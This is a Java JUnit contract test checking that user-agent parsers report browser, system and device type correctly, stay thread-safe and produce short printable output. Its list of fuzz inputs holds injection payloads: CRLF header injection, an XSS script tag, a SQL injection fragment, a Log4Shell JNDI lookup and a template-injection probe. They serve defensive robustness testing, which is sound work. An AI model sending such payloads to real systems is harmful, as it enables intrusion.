package dev.latchkey.testkit.contract;

import static org.assertj.core.api.Assertions.assertThat;

import dev.latchkey.domain.device.DeviceDescriber;
import dev.latchkey.domain.device.DeviceDescription;
import dev.latchkey.domain.kernel.ClientContext;
import java.util.List;
import java.util.stream.Stream;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;

/** What every {@link DeviceDescriber} promises. */
public abstract class DeviceDescriberContract {
  /** What Firefox says on Windows. */
  protected static final String FIREFOX =
      "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:140.0) Gecko/20100101 Firefox/140.0";

  /** What Safari says on a phone. */
  protected static final String SAFARI =
      "Mozilla/5.0 (iPhone; CPU iPhone OS 18_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like"
          + " Gecko) Version/18.5 Mobile/15E148 Safari/604.1";

  /** One that can tell what these two are. */
  protected abstract DeviceDescriber ready();

  /** One that can tell nothing yet. */
  protected abstract DeviceDescriber unprepared();

  @Test
  void browser_and_system_and_type_are_told() {
    var firefox = ready().describe(client(FIREFOX));
    assertThat(firefox.browser()).isEqualTo("Firefox 140");
    assertThat(firefox.system()).startsWith("Windows");
    assertThat(firefox.type()).isEqualTo("desktop");

    var safari = ready().describe(client(SAFARI));
    assertThat(safari.browser()).isEqualTo("Safari 18");
    assertThat(safari.system()).isEqualTo("iOS 18");
    assertThat(safari.type()).isEqualTo("phone");
  }

  @Test
  void what_cannot_be_told_yet_is_the_agent_as_it_came() {
    assertThat(unprepared().describe(client(FIREFOX)))
        .isEqualTo(new DeviceDescription(FIREFOX, null, null));
  }

  @Test
  void a_client_that_says_nothing_is_unknown() {
    var unknown = new DeviceDescription(null, null, null);

    assertThat(ready().describe(ClientContext.none())).isEqualTo(unknown);
    assertThat(unprepared().describe(ClientContext.none())).isEqualTo(unknown);
  }

  @Test
  void whatever_a_client_says_is_told_in_short_printable_text() {
    var ready = ready();
    for (var agent : nonsense()) {
      var told = ready.describe(client(agent));
      assertThat(Stream.of(told.browser(), told.system(), told.type()).filter(text -> text != null))
          .as(agent)
          .allSatisfy(text -> assertThat(text).hasSizeLessThanOrEqualTo(256))
          .noneMatch(text -> text.chars().anyMatch(Character::isISOControl));
    }
  }

  private static List<String> nonsense() {
    return List.of(
        "x",
        "(".repeat(5000),
        "()".repeat(5000),
        "a/1 ".repeat(5000),
        "Mozilla/5.0 (" + "; a".repeat(5000),
        "%00%0d%0aSet-Cookie: a=b",
        "Mozilla/5.0 (%0AWindows%0A)",
        "<script>alert(1)</script>",
        "' or 1=1 --",
        "${jndi:ldap://203.0.113.7/a}",
        "\ud83d\ude00".repeat(600),
        "{{7*7}}",
        "\\u0000");
  }

  @Test
  void many_threads_get_their_own_answers() {
    var ready = ready();
    var expected = ready.describe(client(SAFARI));

    assertThat(Race.of(Race.MANY, () -> ready.describe(client(SAFARI)))).containsOnly(expected);
  }

  private static ClientContext client(@Nullable String agent) {
    return new ClientContext("203.0.113.7", agent, null);
  }
}
